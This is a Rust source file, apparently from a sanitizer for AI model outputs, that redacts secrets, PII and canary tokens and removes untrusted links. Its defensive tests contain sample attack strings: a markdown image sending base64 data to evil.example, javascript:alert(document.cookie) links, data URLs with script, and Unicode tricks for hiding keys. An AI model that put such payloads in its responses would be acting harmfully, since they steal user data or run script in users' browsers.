//! `sanitize`: one pass of every detector over a text, resolved into edits on the original.
//!
//! Order matters and is fixed: hidden markup first (everything after it sees the text a
//! reader sees), then credentials, PII and canaries (located by palisade-detect), then
//! links and URLs, then the check that no redaction notice has become a link itself.
//!
//! The same analysis serves the stream guard, which runs it over a window of text whose
//! end is not the end of the completion (`at_eof == false`). For that case it also says
//! where the window may safely be cut: see [`Analysis::semantic_cut`].

use std::borrow::Cow;
use std::ops::Range;

use crate::cuts::trailing_token;
use crate::detectors;
use crate::edit::{render, resolve, Edit};
use crate::findings::{Analysis, Applied, Open, Phase2};
use crate::fold::fold;
use crate::hidden::{strip, Stripped};
use crate::markup;
use crate::options::{Class, ClassSet, SanitizeOptions};
use crate::screen;

/// The result of [`sanitize`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sanitized<'a> {
    /// The text to emit. Borrowed (no allocation) when nothing applied.
    pub text: Cow<'a, str>,
    /// What was found and neutralized, ordered by position.
    pub actions: Vec<Applied>,
    /// A canary token appeared, plain or encoded: protected context leaked.
    pub canary_leaked: bool,
}

impl Sanitized<'_> {
    /// True if the response should be refused rather than sanitized: a canary leaked, or a
    /// finding of a class in `block`. The caller answers with `finish_reason:
    /// "content_filter"`.
    pub fn blocked_by(&self, block: ClassSet) -> bool {
        self.canary_leaked || self.actions.iter().any(|a| block.contains(a.class))
    }
}

/// Sanitizes a model's completion. See the crate docs for what each class does.
///
/// Pure and linear in `text.len()`: every construct is parsed within a fixed bound, and
/// every detector runs once (credentials in overlapping pieces of at most 896 bytes).
///
/// ```
/// use palisade_output::{sanitize, SanitizeOptions};
/// let s = sanitize("Sure! ![chart](https://evil.example/c.png) Key: AKIAZ7Q2LM4XK3PT6WRB.", &SanitizeOptions::default());
/// assert_eq!(s.text, "Sure! [image removed: evil.example] Key: [REDACTED:aws-access-token].");
/// let clean = sanitize("Nothing to see here.", &SanitizeOptions::default());
/// assert!(matches!(clean.text, std::borrow::Cow::Borrowed(_)));
/// ```
pub fn sanitize<'a>(text: &'a str, opts: &SanitizeOptions) -> Sanitized<'a> {
    // Most strings of a response (`"stop"`, the id, the model, plain prose) provably hold
    // nothing: they skip the analysis's fixed cost (see `screen`).
    if screen::is_clean(text, opts) {
        return Sanitized {
            text: Cow::Borrowed(text),
            actions: Vec::new(),
            canary_leaked: false,
        };
    }
    full(text, opts)
}

/// [`sanitize`] without the clean-text screen: the full analysis, always.
pub(crate) fn full<'a>(text: &'a str, opts: &SanitizeOptions) -> Sanitized<'a> {
    let a = analyze(text, opts, true);
    let out = render(text, &a.edits, 0..text.len());
    Sanitized {
        text: out,
        actions: a.findings,
        canary_leaked: a.canary_leaked,
    }
}

pub(crate) fn analyze<'a>(text: &'a str, opts: &SanitizeOptions, at_eof: bool) -> Analysis<'a> {
    let stripped = if opts.hidden {
        strip(text, at_eof)
    } else {
        Stripped::identity(text)
    };
    let Stripped {
        text: t1,
        map,
        edits: hidden_edits,
        findings: hidden_findings,
        open: comment_open,
    } = stripped;
    let t: &str = &t1;
    // Credentials, PII and canaries are matched with compatibility forms folded to ASCII
    // (fullwidth, mathematical, enclosed); their spans map back to `t`.
    let need_fold = opts.secrets || opts.pii || !opts.canaries.is_empty();
    let folded = fold(if need_fold { t } else { "" });
    let f_text: &str = if need_fold { &folded.text } else { t };
    let mut p2 = Phase2::default();
    let mut pem_open = None;
    if opts.secrets {
        for f in detectors::secrets(f_text) {
            p2.redact(Class::Secret, f.rule, folded.span(&f.span), f.rule);
        }
        let (blocks, open) = detectors::pem_blocks(t, at_eof);
        for b in blocks {
            p2.redact(Class::Secret, "private-key", b, "private-key");
        }
        pem_open = open;
    }
    if opts.pii {
        for f in detectors::pii(f_text) {
            p2.redact(Class::Pii, f.rule, folded.span(&f.span), f.rule);
        }
    }
    // Canaries are looked for in the stripped text (where hiding characters cannot split
    // them) and, when hidden markup was removed, in the original too: a canary inside an
    // HTML comment never reaches the reader, but it still proves the leak.
    let mut canary_leaked = false;
    let mut raw_canaries: Vec<Applied> = Vec::new();
    // The skeleton canaries are matched in (folded text, positions in `t`).
    let f_skel = if opts.canaries.is_empty() {
        Vec::new()
    } else {
        detectors::skeleton(f_text)
    };
    // The original text too (a canary in a comment still proves the leak), with
    // compatibility forms folded so both views read the same characters.
    let raw_folded = (matches!(t1, Cow::Owned(_)) && !opts.canaries.is_empty()).then(|| fold(text));
    for c in &opts.canaries {
        let hits = detectors::canary_hits(c, f_text)
            .into_iter()
            .chain(detectors::reversed_hits(c, f_text, &f_skel));
        for f in hits {
            canary_leaked = true;
            let span = folded.span(&f.span);
            if f.rule == "canary-token" || f.rule == "canary-token-reversed" {
                p2.redact(Class::Canary, f.rule, span, "canary");
            } else {
                // Encoded somewhere in the text: nothing precise to cut out.
                p2.findings.push(Applied {
                    class: Class::Canary,
                    rule: f.rule,
                    span_in_original: span,
                });
            }
        }
        if let Some(raw) = &raw_folded {
            for mut f in detectors::canary_hits(c, &raw.text) {
                f.span = raw.span(&f.span);
                canary_leaked = true;
                raw_canaries.push(Applied {
                    class: Class::Canary,
                    rule: f.rule,
                    span_in_original: f.span,
                });
            }
        }
    }
    if opts.links {
        markup::scan(t, at_eof, &opts.allow, opts.bare_domains, &mut p2);
        markup::marker_tails(t, at_eof, &opts.allow, &mut p2);
    }

    let mut edits = hidden_edits;
    edits.extend(p2.edits.into_iter().map(|e| Edit {
        span: map.span(&e.span),
        with: e.with,
    }));
    let edits = resolve(edits);
    let mut findings = hidden_findings;
    findings.extend(p2.findings.into_iter().map(|f| Applied {
        span_in_original: map.span(&f.span_in_original),
        ..f
    }));
    for raw in raw_canaries {
        let r = &raw.span_in_original;
        let known = findings.iter().any(|f| {
            f.class == Class::Canary
                && f.span_in_original.start < r.end
                && r.start < f.span_in_original.end
        });
        if !known {
            findings.push(raw);
        }
    }
    findings.sort_by_key(|f| (f.span_in_original.start, f.span_in_original.end));

    fn earliest(a: Option<(usize, Open)>, b: Option<(usize, Open)>) -> Option<(usize, Open)> {
        match (a, b) {
            (Some(x), Some(y)) => Some(if y.0 < x.0 { y } else { x }),
            (x, y) => x.or(y),
        }
    }
    let open_skip = earliest(
        comment_open.map(|p| (p, Open::Comment)),
        pem_open.map(|p| (map.start(p), Open::Pem)),
    );
    let open = earliest(open_skip, p2.open.map(|p| (map.start(p), Open::Markup)));

    let mut nocut: Vec<Range<usize>> = p2.zones.iter().map(|z| map.span(z)).collect();
    nocut.extend(edits.iter().map(|e| e.span.clone()));
    nocut.sort_by_key(|r| r.start);
    let mut merged: Vec<Range<usize>> = Vec::with_capacity(nocut.len());
    for r in nocut {
        match merged.last_mut() {
            Some(last) if r.start <= last.end => last.end = last.end.max(r.end),
            _ => merged.push(r),
        }
    }

    let trailing = if at_eof { t.len() } else { trailing_token(t) };
    let cores: Vec<Vec<u8>> = opts
        .canaries
        .iter()
        .map(detectors::canary_core)
        .flat_map(|c| [c.bytes().collect(), c.bytes().rev().collect()])
        .collect();
    let skel = f_skel
        .iter()
        .map(|&(p, c)| (folded.to_source(p), c))
        .collect();
    Analysis {
        text,
        stripped: t1,
        map,
        edits,
        findings,
        canary_leaked,
        open,
        open_skip,
        nocut: merged,
        cores,
        skel,
        pre_skel: Vec::new(),
        at_eof,
        trailing,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::options::LinkAllow;
    use palisade_detect::Canary;

    fn opts() -> SanitizeOptions {
        SanitizeOptions {
            allow: LinkAllow::hosts(["docs.rs", "*.example.com"]).unwrap(),
            ..SanitizeOptions::default()
        }
    }

    fn check(input: &str, expect: &str) {
        let s = sanitize(input, &opts());
        assert_eq!(s.text, expect, "input {input:?}, actions {:?}", s.actions);
    }

    fn rules(input: &str) -> Vec<&'static str> {
        sanitize(input, &opts())
            .actions
            .iter()
            .map(|a| a.rule)
            .collect()
    }

    #[test]
    fn secrets_are_redacted_by_rule() {
        check(
            "key AKIAZ7Q2LM4XK3PT6WRB and ghp_1234567890abcdefghijklmnopqrstuvwxyz.",
            "key [REDACTED:aws-access-token] and [REDACTED:github-pat].",
        );
        check(
            "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\nok",
            "[REDACTED:private-key]\nok",
        );
        check(
            "truncated -----BEGIN EC PRIVATE KEY-----\nMHcCAQEEI",
            "truncated [REDACTED:private-key]",
        );
        check("ak\u{200B}IAZ7Q2LM4XK3PT6WRB", "akIAZ7Q2LM4XK3PT6WRB"); // not a key shape
        check(
            "AKIA\u{200B}Z7Q2LM4XK3PT6WRB x",
            "[REDACTED:aws-access-token] x",
        );
    }

    #[test]
    fn pii_by_kind() {
        check(
            "Mail jane.doe@corp.net or call +1 415-555-0134.",
            "Mail [REDACTED:email] or call [REDACTED:phone].",
        );
    }

    #[test]
    fn images_and_links() {
        check(
            "See ![chart](https://evil.example/c.png \"t\") now",
            "See [image removed: evil.example] now",
        );
        check(
            "Read [the docs](https://docs.rs/regex) and [this](https://evil.example/x).",
            "Read [the docs](https://docs.rs/regex) and this (link removed: evil.example).",
        );
        check(
            "[click](javascript:alert(document.cookie))",
            "click (link removed: javascript URL)",
        );
        check("[x](data:text/html,<script>)", "x (link removed: data URL)");
        check("<https://evil.example/a>", "(link removed: evil.example)");
        check(
            "go to https://evil.example/path?q=1. Then",
            "go to (link removed: evil.example). Then",
        );
        check("www.evil.example/x, ok", "(link removed: evil.example), ok");
        check(
            "https://docs.rs/x and https://a.example.com/y",
            "https://docs.rs/x and https://a.example.com/y",
        );
        check(
            "[ref]: https://evil.example/x \"T\"\nuse [ref]",
            "[ref]: (link removed: evil.example)\nuse [ref]",
        );
        check(
            "<img src=\"https://evil.example/p.gif\" alt=x> hi",
            "[image removed: evil.example] hi",
        );
        check(
            "<a href='https://evil.example/'>click <b>me</b></a>!",
            "click <b>me</b> (link removed: evil.example)!",
        );
        check(
            "<div style=\"background:url(//evil.example/x)\">t</div>",
            "(link removed: evil.example)t</div>",
        );
        // A badge: an image inside a link, both denied.
        check(
            "[![build](https://evil.example/b.svg)](https://evil.example/ci)",
            "[image removed: evil.example] (link removed: evil.example)",
        );
        // Allowed link text holding a denied URL.
        check(
            "[see https://evil.example/x](https://docs.rs/)",
            "[see (link removed: evil.example)](https://docs.rs/)",
        );
    }

    #[test]
    fn exfil_image_has_its_own_rule() {
        let input =
            "![x](https://evil.example/p?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgdXNlcjogaHVudGVyMg==)";
        check(input, "[image removed: evil.example]");
        assert_eq!(rules(input), vec!["exfil-url"]);
    }

    #[test]
    fn hidden_markup_cannot_assemble_a_link() {
        check(
            "[click]<!-- -->(javascript:alert(1))",
            "click (link removed: javascript URL)",
        );
        check(
            "[click]\u{200B}(https://evil.example/)",
            "click (link removed: evil.example)",
        );
    }

    #[test]
    fn redaction_notice_never_becomes_a_link() {
        check(
            "AKIAZ7Q2LM4XK3PT6WRB(javascript:alert(1))",
            "[REDACTED:aws-access-token] (link removed: javascript URL)",
        );
        check(
            "AKIAZ7Q2LM4XK3PT6WRB: javascript:alert(1)\nx",
            "[REDACTED:aws-access-token]: (link removed: javascript URL)\nx",
        );
        check(
            "![a](https://evil.example/)(//evil.example/2)",
            "[image removed: evil.example] (link removed: evil.example)",
        );
        // To an allowed place, the notice may stay a link.
        check(
            "AKIAZ7Q2LM4XK3PT6WRB(https://docs.rs/)",
            "[REDACTED:aws-access-token](https://docs.rs/)",
        );
    }

    #[test]
    fn untouched_text_is_borrowed_and_identical() {
        for t in [
            "",
            "Plain prose. With sentences!\nAnd `code` and **bold** and [1] and a < b > c.",
            "Allowed: [docs](https://docs.rs/x) <https://docs.rs/y> https://a.example.com/z",
            "emoji 👨\u{200D}👩\u{200D}👧 and 日本語のテキスト。",
        ] {
            let s = sanitize(t, &opts());
            assert!(matches!(s.text, Cow::Borrowed(_)), "{t:?} -> {s:?}");
            assert!(s.actions.is_empty());
        }
    }

    #[test]
    fn classes_can_be_switched_off() {
        let t = "AKIAZ7Q2LM4XK3PT6WRB a@b.co ![x](https://evil.example/) \u{200B}";
        let s = sanitize(t, &SanitizeOptions::off());
        assert_eq!(s.text, t);
        let only_links = SanitizeOptions {
            links: true,
            ..SanitizeOptions::off()
        };
        assert_eq!(
            sanitize(t, &only_links).text,
            "AKIAZ7Q2LM4XK3PT6WRB a@b.co [image removed: evil.example] \u{200B}"
        );
    }

    /// Item 14: invisible marks inside a key, compatibility forms, word characters glued
    /// to a key, a reversed canary. Redactions cover the original spans.
    #[test]
    fn evasions_are_normalized_before_matching() {
        for (input, expect) in [
            (
                "key AK\u{200E}IAZ7Q2\u{200F}LM4XK3\u{061C}PT6WRB ok",
                "key [REDACTED:aws-access-token] ok",
            ),
            (
                "key ＡＫＩＡＺ７Ｑ２ＬＭ４ＸＫ３ＰＴ６ＷＲＢ ok",
                "key [REDACTED:aws-access-token] ok",
            ),
            (
                "key 𝐀𝐊𝐈𝐀Z7Q2LM4XK3PT6WRB ok",
                "key [REDACTED:aws-access-token] ok",
            ),
            (
                "key xAKIAZ7Q2LM4XK3PT6WRB ok",
                "key [REDACTED:aws-access-token] ok",
            ),
            (
                "t ghp_1234567890abcdefghijklmnopqrstuvwxyzZ ok",
                "t [REDACTED:github-pat] ok",
            ),
            (
                "t id_ghp_1234567890abcdefghijklmnopqrstuvwxyz ok",
                "t [REDACTED:github-pat] ok",
            ),
            (
                "mail ｊａｎｅ＠ｃｏｒｐ．ｎｅｔ ok",
                "mail [REDACTED:email] ok",
            ),
            // Not keys: too little entropy, or no prefix.
            ("xAKIAAAAAAAAAAAAAAAAA ok", "xAKIAAAAAAAAAAAAAAAAA ok"),
        ] {
            check(input, expect);
        }
        let canary =
            Canary::from_random(&[7, 1, 99, 250, 3, 44, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14]);
        let core = canary.token[4..].to_string();
        let with = SanitizeOptions {
            canaries: vec![canary.clone()],
            ..opts()
        };
        let reversed: String = core.chars().rev().collect();
        let fullwidth: String = core
            .chars()
            .map(|c| char::from_u32(c as u32 + 0xFEE0).unwrap())
            .collect();
        let marked: String = core.chars().flat_map(|c| [c, '\u{200F}']).collect();
        for leak in [reversed, fullwidth, marked] {
            let text = format!("marker: {leak} ok");
            let s = sanitize(&text, &with);
            assert!(s.canary_leaked, "{leak:?}");
            assert_eq!(s.text, "marker: [REDACTED:canary] ok", "{leak:?}");
        }
    }

    #[test]
    fn blocked_by() {
        let s = sanitize("key AKIAZ7Q2LM4XK3PT6WRB", &opts());
        assert!(s.blocked_by(ClassSet::EMPTY.with(Class::Secret)));
        assert!(!s.blocked_by(ClassSet::EMPTY.with(Class::Link)));
    }
}
